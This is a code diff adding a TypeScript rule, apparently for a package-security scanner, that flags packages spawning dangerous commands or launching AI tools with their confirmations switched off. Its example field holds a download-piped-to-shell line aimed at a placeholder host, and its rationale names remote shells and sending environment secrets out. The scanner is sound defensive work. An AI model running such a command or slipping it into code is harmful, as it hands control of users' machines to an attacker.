@@ -1,0 +1,33 @@
+import { drivesAiTool, readingsOfCommand } from "../command-readings.ts";
+import type { Rule, Sighting } from "../rule.ts";
+import type { LensView } from "../view.ts";
+import { placeOf } from "../view.ts";
+import type { Use } from "../../program/uses.ts";
+
+export const runsDangerousCommands: Rule = {
+  id: "runs-dangerous-commands",
+  title: "Runs a command that no library needs",
+  why:
+    "A command line that pipes a download into a shell, opens a connection to a shell, sends the " +
+    "environment away or deletes the home folder does in one line what a payload does.",
+  example: 'execSync("curl -s https://stage.invalid/x | sh");',
+  advice: "Do not install it before you know what the command is for.",
+  severity: "critical",
+  confidence: "high",
+  look: (view) => view.spawns.flatMap((use) => sightingOf(use, view)),
+};
+
+function sightingOf(use: Use, view: LensView): readonly Sighting[] {
+  return view.commandsOf(use).flatMap((command): readonly Sighting[] => {
+    const shown = command.slice(0, 120);
+    if (drivesAiTool(command)) {
+      const message = `An AI tool is started with its questions switched off: ${shown}.`;
+      return [{ place: placeOf(use), message, severity: "high" }];
+    }
+    const [reading] = readingsOfCommand(command);
+    if (reading === undefined) return [];
+    const mild = reading.kind === "downloads-and-runs" && view.isReachedFrom(use.module, "bin");
+    const message = `A command ${reading.what}: ${shown}.`;
+    return [{ place: placeOf(use), message, severity: mild ? "medium" : "critical" }];
+  });
+}
